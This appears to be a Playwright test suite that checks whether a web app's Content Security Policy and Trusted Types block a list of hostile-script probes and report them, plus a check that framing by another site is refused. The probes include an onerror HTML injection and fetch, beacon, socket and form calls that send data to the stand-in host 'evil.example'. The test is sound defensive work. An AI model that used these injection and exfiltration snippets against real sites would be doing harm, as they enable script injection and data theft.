import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { test as base, expect } from '../kit/test.ts';

/** The probes below make the noise that every other test forbids. */
const test = base.extend({ quiet: ({ baseURL: _ }, use) => use(undefined) });

const evil = 'https://evil.example';

interface Probe {
  name: string;
  /** The directive that stops it, as the browser names it. */
  directive: string;
  /** Runs in the page. */
  attempt: (evil: string) => unknown;
}

/** In the page: a policy as lax as a careless one would be, so that Trusted Types do not stop what the rest must stop. */
declare const trusted: { createScript(text: string): string; createScriptURL(text: string): string };

const probes: Probe[] = [
  {
    name: 'an inline script',
    directive: 'script-src-elem',
    attempt: () => {
      const script = document.createElement('script');
      script.text = trusted.createScript('window.hit = true');
      document.body.append(script);
    },
  },
  {
    name: 'a script of another origin',
    directive: 'script-src-elem',
    attempt: (origin) => {
      const script = document.createElement('script');
      script.src = trusted.createScriptURL(`${origin}/x.js`);
      document.body.append(script);
    },
  },
  {
    name: 'eval',
    directive: 'script-src',
    attempt: () => {
      // biome-ignore lint/security/noGlobalEval: it must not work
      globalThis.eval(trusted.createScript('window.hit = true'));
    },
  },
  {
    name: 'text for a script',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('script').text = 'window.hit = true';
    },
  },
  {
    name: 'text as HTML',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('div').innerHTML = '<img src=x onerror="window.hit = true">';
    },
  },
  {
    name: 'text for a timer',
    directive: 'require-trusted-types-for',
    attempt: () => {
      setTimeout('window.hit = true' as unknown as () => void);
    },
  },
  {
    name: 'a frame of another origin',
    directive: 'frame-src',
    attempt: (origin) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: origin })),
  },
  {
    name: 'a frame of our own',
    directive: 'frame-src',
    attempt: () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/' })),
  },
  {
    name: 'an image of another origin',
    directive: 'img-src',
    attempt: (origin) => document.body.append(Object.assign(new Image(), { src: `${origin}/x.png?face` })),
  },
  {
    name: 'an image of data',
    directive: 'img-src',
    attempt: () =>
      document.body.append(Object.assign(new Image(), { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' })),
  },
  {
    name: 'a fetch to another origin',
    directive: 'connect-src',
    attempt: (origin) => fetch(`${origin}/x`, { method: 'POST', body: 'face', mode: 'no-cors' }),
  },
  {
    name: 'a beacon to another origin',
    directive: 'connect-src',
    attempt: (origin) => navigator.sendBeacon(`${origin}/x`, 'face'),
  },
  {
    name: 'a socket to another origin',
    directive: 'connect-src',
    attempt: (origin) => new WebSocket(origin.replace('https', 'wss')),
  },
  {
    name: 'a style in the page',
    directive: 'style-src-elem',
    attempt: () =>
      document.head.append(
        Object.assign(document.createElement('style'), { textContent: '*{display:none}' }),
      ),
  },
  {
    name: 'a style of another origin',
    directive: 'style-src-elem',
    attempt: (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/x.css` }),
      ),
  },
  {
    name: 'a plug-in',
    directive: 'object-src',
    attempt: (origin) =>
      document.body.append(
        Object.assign(document.createElement('object'), { data: trusted.createScriptURL(`${origin}/x.pdf`) }),
      ),
  },
  {
    name: 'a form to another origin',
    directive: 'form-action',
    attempt: (origin) => {
      const form = Object.assign(document.createElement('form'), { action: `${origin}/x`, method: 'post' });
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'another base',
    directive: 'base-uri',
    attempt: (origin) =>
      document.head.append(Object.assign(document.createElement('base'), { href: origin })),
  },
  {
    name: 'a worker of a blob',
    directive: 'worker-src',
    attempt: () => {
      const url = URL.createObjectURL(new Blob(['0'], { type: 'text/javascript' }));
      new Worker(trusted.createScriptURL(url));
    },
  },
];

/** The directives that stopped something since the page was opened; the policy that only reports is not counted. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const stopped: string[] = [];
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): object };
    };
    const same = (text: string) => text;
    const trusted = trustedTypes.createPolicy('probe', { createScript: same, createScriptURL: same });
    Object.assign(window, { stopped, trusted });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, disposition }) => {
      if (disposition === 'enforce') stopped.push(effectiveDirective);
    });
  });
  return () => page.evaluate(() => (window as unknown as { stopped: string[] }).stopped);
}

const reachedOut = (page: Page) => {
  const urls: string[] = [];
  // Whatever passed the policy would come here, and find an answer.
  void page.context().route(`${evil}/**`, (route) => {
    urls.push(route.request().url());
    return route.fulfill({ body: 'window.hit = true', contentType: 'text/javascript' });
  });
  return urls;
};

test('whatever a hostile script tries is blocked, by its own directive, and reported', async ({
  page,
  visit,
}) => {
  const reached = reachedOut(page);
  const stopped = await watchPolicy(page);
  await visit.open();
  for (const { name, directive, attempt } of probes) {
    await test.step(name, async () => {
      await page.evaluate(() => ((window as unknown as { stopped: string[] }).stopped.length = 0));
      const report = page.waitForResponse((response) => response.url().endsWith('/csp-report'));
      // What throws was stopped too; the browser says by what.
      await page.evaluate(attempt, evil).catch(() => undefined);
      await expect.poll(stopped).toContain(directive);
      expect((await report).status()).toBe(204);
      expect(reached).toEqual([]);
      expect(await page.evaluate(() => 'hit' in window)).toBe(false);
    });
  }
});

test('blocked: our page in a frame of another site', async ({ page, deployment }) => {
  // Another site of this machine: a browser keeps far ones from a loopback address for a reason of its own.
  const other = createServer((_, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${deployment.url}/"></iframe>`);
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  const site = `http://127.0.0.1:${(other.address() as AddressInfo).port}/`;
  const [refused] = await Promise.all([page.waitForEvent('requestfailed'), page.goto(site)]);
  // The response came and its headers forbid the frame; nothing else has that name.
  expect([refused.url(), refused.failure()?.errorText]).toEqual([
    `${deployment.url}/`,
    'net::ERR_BLOCKED_BY_RESPONSE',
  ]);
  other.close();
});
